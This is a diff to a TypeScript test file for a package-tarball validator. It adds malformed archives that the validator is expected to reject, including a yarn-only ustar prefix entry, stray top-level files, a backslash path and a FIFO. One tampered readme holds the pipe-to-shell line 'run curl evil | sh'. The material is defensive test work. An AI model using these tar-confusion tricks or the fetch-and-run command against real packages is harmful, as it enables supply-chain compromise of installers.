@@ -65,6 +65,18 @@ const withTarball = (tgz: Buffer) => (b: any) => {
   b.versions['1.0.0'].dist.shasum = createHash('sha1').update(tgz).digest('hex');
 };
 const str = (x: unknown) => JSON.stringify(x);
+/** package/package.json, then an entry "package.json" with GNU magic and the ustar prefix "package" (yarn 1 reads package/package.json). */
+const gnuPrefixed = () => {
+  const tar = tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package.json', content: pj }]);
+  const h = tar.subarray(1024, 1536);
+  h.write('ustar  \0', 257, 'latin1');
+  h.write('package', 345);
+  h.write('        ', 148);
+  let sum = 0;
+  for (const b of h) sum += b;
+  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
+  return gzipSync(tar);
+};
 const tamper = (f: (b: any) => void) => {
   const b = valid();
   f(b);
@@ -141,6 +153,15 @@ function corpus(): Case[] {
     ['two package.json entries', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/package.json', content: pj }])))],
     ['package.json a symlink', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: '', type: '2' }])))],
     ['entry path with ..', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/../../x', content: 'x' }])))],
+    // one meaning per tar entry for every extractor (security review 2, publish item 1)
+    ['an entry whose ustar prefix only yarn 1 reads', withTarball(gnuPrefixed())],
+    ['a file outside the top folder', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'setup.js', content: 'x' }])))],
+    ['a second package.json with a backslash', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package\\package.json', content: pj }])))],
+    ['a FIFO entry', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/fifo', type: '6' }])))],
+    ['a file named like a folder', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/lib/', content: 'x' }])))],
+    // what people read is the tarball's too (security review 2, publish item 2)
+    ['a readme other than the tarball\'s', (b) => { b.versions['1.0.0'].readme = 'run curl evil | sh'; }],
+    ['a non-string gitHead', (b) => { b.versions['1.0.0'].gitHead = { x: 1 }; }],
     ['tarball gzipped twice', withTarball(gzipSync(makeTarball({ 'package.json': pj })))],
     ['tarball not tar', withTarball(gzipSync(Buffer.from('plain text, not tar')))],
     ['package.json an array', withTarball(makeTarball({ 'package.json': '[]' }))],
